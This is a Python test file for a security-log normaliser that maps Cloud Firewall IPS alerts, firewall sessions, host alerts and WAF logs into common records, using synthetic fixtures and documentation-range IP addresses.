        "entities": [
            {"type": "ip", "role": "attacker", "value": "203.0.113.50"},
            {"type": "ip", "role": "victim", "value": "198.51.100.10"},
            {"type": "ip", "role": "victim", "value": "192.168.0.12"},
            {"type": "domain", "role": "related", "value": "pool.example.net"},
        ],
        "description": (
            "Mining Behavior; 198.51.100.10:47915 -> 203.0.113.50:3333; protocol TCP; "
            "application Unknown; IPS rule 073a1475-6e11-43e2-8b28-98cee9c688c0; "
            "blocked by Cloud Firewall."
        ),
        "exceptions": [],
        "raw": row,
    }
    assert len(native["uuid"]) == 64


def test_it_maps_an_inbound_attack_that_was_only_alerted():
    row = cfw_traffic_row(
        rule_result="alert",
        ips_rule_id="5a2e7c1d-0b3f-4d9e-8a61-2f0c9e7b4d11",
        ips_rule_name_en="Redis unauthorized access",
        attack_type_name_en="Command Execution",
        vul_level="-",
        dst_port="6379",
    )

    native = to_native("cloud_firewall", row)

    assert (native["type"], native["level"]) == ("command_execution", "medium")
    assert native["asset"] == {"public_ip": "198.51.100.10", "region": "cn-beijing"}
    assert native["entities"][:2] == [
        {"type": "ip", "role": "attacker", "value": "203.0.113.7"},
        {"type": "ip", "role": "victim", "value": "198.51.100.10"},
    ]
    assert native["description"].endswith("allowed by Cloud Firewall with an alert.")


@pytest.mark.parametrize(
    ("attack_type", "scenario"),
    [
        ("Brute Force", "brute_force"),
        ("Reverse Shell", "reverse_shell"),
        ("Web Attack", "web_attack"),
        ("Trojan/Backdoor", "trojan"),
        ("Zero-day Exploit", "zero_day_exploit"),
    ],
)
def test_it_maps_attack_types_to_scenario_keys(attack_type, scenario):
    row = cfw_mining_row(attack_type_name_en=attack_type, attack_type_name="-")

    native = to_native("cloud_firewall", row)

    assert native["type"] == scenario


def test_it_reads_an_ips_log_as_an_attack_record():
    row = cfw_traffic_row(
        __topic__="cloudfirewall_ips_log",
        log_type="internet_ips_log",
        rule_result="-",
        attack_type_name_en="Scanning",
    )

    native = to_native("cloud_firewall", row)

    assert (native["type"], native["name"]) == ("scanning", "Scanning")
    assert native["description"].endswith("application HTTPS.")


def test_it_refuses_a_session_no_ips_rule_matched():
    with pytest.raises(NotAnAttackRecord) as caught:
        to_native("cloud_firewall", cfw_traffic_row(rule_result="drop"))

    assert caught.value.field == "ips_rule_id"
    assert "cloud_firewall_traffic" in caught.value.message


def test_it_treats_an_all_zero_ips_rule_as_no_rule():
    row = cfw_traffic_row(ips_rule_id="00000000-0000-0000-0000-000000000000")

    with pytest.raises(NotAnAttackRecord):
        to_native("cloud_firewall", row)


def test_it_gives_a_resent_firewall_record_the_same_uuid():
    first = to_native("cloud_firewall", cfw_mining_row())["uuid"]
    again = to_native("cloud_firewall", cfw_mining_row())["uuid"]
    other = to_native("cloud_firewall", cfw_mining_row(src_port="47916"))["uuid"]

    assert again == first
    assert other != first


def test_it_takes_the_firewall_account_from_either_name():
    row = cfw_mining_row(owner_id=OTHER_ACCOUNT)
    del row["aliuid"]

    assert to_native("cloud_firewall", row)["account"] == OTHER_ACCOUNT


def test_it_refuses_a_firewall_attack_without_any_account():
    assert field_at_fault("cloud_firewall", cfw_mining_row(aliuid="")) == "account"


def test_it_refuses_a_firewall_attack_with_an_unreadable_time():
    assert field_at_fault("cloud_firewall", cfw_mining_row(start_time="soon")) == "start_time"


# --- cloud_firewall_traffic ---------------------------------------------------------------


def test_it_maps_a_firewall_session_to_a_network_log():
    row = cfw_traffic_row()
    del row["ips_rule_id"]

    native = to_native("cloud_firewall_traffic", row)

    assert native == {
        "type": "network",
        "account": ACCOUNT,
        "host_uuid": "",
        "time": "2018-02-27T03:58:15+00:00",
        "src_ip": "203.0.113.7",
        "src_port": 47915,
        "dst_ip": "198.51.100.10",
        "dst_port": 443,
        "protocol": "tcp",
        "direction": "in",
        "raw": row,
    }


def test_it_prefers_the_session_start_to_the_write_time():
    row = cfw_traffic_row(start_time="1555399258")

    assert to_native("cloud_firewall_traffic", row)["time"] == "2019-04-16T07:20:58+00:00"


def test_it_drops_a_dash_direction_from_a_firewall_session():
    native = to_native("cloud_firewall_traffic", cfw_traffic_row(direction="-"))

    assert "direction" not in native


def test_it_refuses_an_ips_log_as_traffic():
    row = cfw_traffic_row(__topic__="cloudfirewall_ips_log")

    assert field_at_fault("cloud_firewall_traffic", row) == "__topic__"


def test_it_keeps_unknown_firewall_fields_in_raw():
    row = cfw_traffic_row(app_dpi_state="success", country_id="CN")

    raw = to_native("cloud_firewall_traffic", row)["raw"]

    assert raw == row
    assert raw["app_dpi_state"] == "success"


@pytest.mark.parametrize("format_name", sorted(FORMATS))
def test_it_refuses_a_record_that_is_not_an_object(format_name):
    assert field_at_fault(format_name, ["not", "an", "object"], ACCOUNT) == "record"


# --- numbers out of range -------------------------------------------------------------------
# Like any optional value that cannot be read, a number no process id, port,
# status or count can be is treated as missing (the record keeps it in raw),
# rather than refusing the record after mapping it.


@pytest.mark.parametrize("pid", ["99999999999", "-1", "1" * 5000])
def test_it_treats_an_impossible_process_id_as_missing(pid):
    native = to_native("sas_process", process_row_v2(pid=pid, ppid=pid))

    assert "pid" not in native
    assert "ppid" not in native
    assert native["raw"]["pid"] == pid


def test_it_treats_an_impossible_process_id_in_alert_details_as_missing():
    detail = json.loads(sas_reverse_shell_row()["detail"])
    detail["Process ID"] = "99999999999"

    native = to_native("sas_alert", sas_reverse_shell_row(detail=json.dumps(detail)))

    assert "pid" not in native["entities"][1]


@pytest.mark.parametrize("status", ["0", "-1", "1000", "99999999999999999999"])
def test_it_treats_an_impossible_http_status_as_missing(status):
    native = to_native("waf_access", waf_plain_row(status=status))

    assert "status" not in native


@pytest.mark.parametrize("count", ["0", "-3", "99999999999999"])
def test_it_counts_a_logon_with_an_impossible_count_once(count):
    native = to_native("sas_crack", login_row(topic="aegis-log-crack", warn_count=count))

    assert native["count"] == 1
